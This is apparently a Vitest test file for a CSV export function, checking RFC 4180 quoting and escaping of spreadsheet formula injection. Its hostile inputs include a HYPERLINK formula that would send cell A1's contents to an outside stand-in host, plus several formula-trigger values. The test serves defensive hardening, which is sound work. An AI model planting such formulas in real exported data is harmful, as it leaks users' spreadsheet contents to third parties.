import { describe, expect, it } from 'vitest';
import { csvFile } from './csv.js';

describe('csvFile', () => {
  it('quotes as RFC 4180 says, with a byte-order mark and CRLF line ends', () => {
    expect(csvFile([['a', 'b,c', 'say "hi"', 'two\nlines', ' padded', null, 12.345]])).toBe(
      '\uFEFFa,"b,c","say ""hi""","two\nlines"," padded",,12.3\r\n',
    );
  });

  it('keeps text from imported files from running as a spreadsheet formula', () => {
    const hostile = [
      '=HYPERLINK("http://example.com/?x="&A1,"open")',
      '+1+2',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
    ];
    const line = csvFile([hostile]).slice(1).trimEnd();
    expect(line).toBe(
      `"'=HYPERLINK(""http://example.com/?x=""&A1,""open"")",'+1+2,'-2+3,'@SUM(A1),'\t=1`,
    );
    // Numbers stay numbers, negative ones too.
    expect(csvFile([[-3, 0, 4.56]])).toBe('\uFEFF-3,0,4.6\r\n');
  });
});
